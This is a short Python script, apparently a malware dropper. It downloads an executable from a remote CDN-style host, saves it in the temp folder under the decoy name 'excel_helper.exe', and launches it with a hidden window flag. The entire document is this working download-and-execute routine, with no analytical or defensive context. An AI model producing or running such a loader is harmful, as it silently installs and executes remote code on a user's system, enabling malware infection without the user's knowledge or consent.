import os, subprocess, tempfile, requests

def main():
    path = os.path.join(tempfile.gettempdir(), "excel_helper.exe")
    with open(path, "wb") as fh:
        fh.write(requests.get("https://cdn.example-updates.net/excel_helper.exe").content)
    subprocess.Popen([path], creationflags=0x08000000)
    print("done")
